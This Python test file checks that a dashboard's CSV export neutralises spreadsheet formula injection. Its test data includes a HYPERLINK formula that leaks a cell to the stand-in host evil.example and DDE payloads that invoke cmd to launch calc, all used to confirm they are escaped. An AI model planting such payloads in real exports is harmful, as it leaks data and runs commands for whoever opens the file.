"""CSV downloads are safe to open in a spreadsheet: no formula in a cell runs.

The facts are loaded through the real loader from a fact file in a temporary
project, as a curator's mistake or a hostile edit would arrive.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from dashboard import exports, transforms
from dashboard.cli import main
from dashboard.facts.load import load_facts
from dashboard.paths import REPO_DIR
from tests.conftest import BASE_FACT

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the source")'

# (what a cell starts with, the text a fact carries)
TRIGGERS: list[tuple[str, str]] = [
    ("equals", HYPERLINK),
    ("plus", "+1+1"),
    ("minus", "-2+3+cmd|' /C calc'!A0"),
    ("at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("tab", "\t=1+1"),
    ("carriage return", "\r=1+1"),
]


def with_text(field: str, text: str) -> str:
    """BASE_FACT with ``field`` set to ``text`` (a JSON string is a YAML string too)."""
    if field == "statement":
        return BASE_FACT.replace("statement: A test fact.", f"statement: {json.dumps(text)}")
    return BASE_FACT + f"    {field}: {json.dumps(text)}\n"


def csv_rows(data: bytes) -> dict[str, dict[str, str]]:
    reader = csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""))
    return {row["fact_id"]: row for row in reader}


def exported_rows(project: Path) -> dict[str, dict[str, str]]:
    factset = load_facts(project)
    assert factset.errors == []
    return csv_rows(exports.to_csv(transforms.facts_table(factset)))


@pytest.mark.parametrize("field", ["statement", "measure", "notes"])
@pytest.mark.parametrize("text", [pytest.param(text, id=name) for name, text in TRIGGERS])
def test_formula_cells_get_a_leading_quote(
    write_facts: Callable[[str], Path], project: Path, field: str, text: str
) -> None:
    write_facts(with_text(field, text))
    row = exported_rows(project)["test-fact"]
    assert row[field] == "'" + text
    assert row["value"] == "509.0"  # numbers stay numbers, never quoted
    assert float(row["value"]) == 509


def test_ordinary_text_and_negative_looking_numbers_are_left_alone(
    write_facts: Callable[[str], Path], project: Path
) -> None:
    write_facts(with_text("notes", "A 5-day count; 2 = two boats."))
    rows = exported_rows(project)
    assert rows["test-fact"]["statement"] == "A test fact."
    assert rows["test-fact"]["notes"] == "A 5-day count; 2 = two boats."
    assert rows["test-fact"]["fact_line"] == "2"
    # The real facts: text that does not start with a trigger is unchanged.
    real = rows["uk-crossings-2024-to-date"]
    assert real["statement"].startswith("29,154 people crossed the Channel")
    assert real["value"] == "29154.0"


def test_cli_export_neutralises_the_formula(
    write_facts: Callable[[str], Path], project: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    write_facts(with_text("statement", HYPERLINK))
    assert main(["--project", str(project), "export", "--format", "csv"]) == 0
    row = csv_rows(capsysbinary.readouterr().out)["test-fact"]
    assert row["statement"] == "'" + HYPERLINK
    assert row["value"] == "509.0"


def test_python_m_dashboard_export_neutralises_the_formula(
    write_facts: Callable[[str], Path], project: Path
) -> None:
    """The command exactly as a user types it, in a process of its own."""
    write_facts(with_text("statement", HYPERLINK))
    done = subprocess.run(
        [sys.executable, "-m", "dashboard", "--project", str(project), "export", "--format", "csv"],
        cwd=REPO_DIR,
        capture_output=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr.decode()
    row = csv_rows(done.stdout)["test-fact"]
    assert row["statement"] == "'" + HYPERLINK
    assert row["value"] == "509.0"


def test_line_breaks_inside_a_cell_never_split_the_row(
    write_facts: Callable[[str], Path], project: Path
) -> None:
    notes = "first line\rsecond line\r\nthird line\nfourth"
    write_facts(with_text("notes", notes))
    factset = load_facts(project)
    data = exports.to_csv(transforms.facts_table(factset))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert len(rows) == 1 + len(factset.facts)
    assert csv_rows(data)["test-fact"]["notes"] == notes
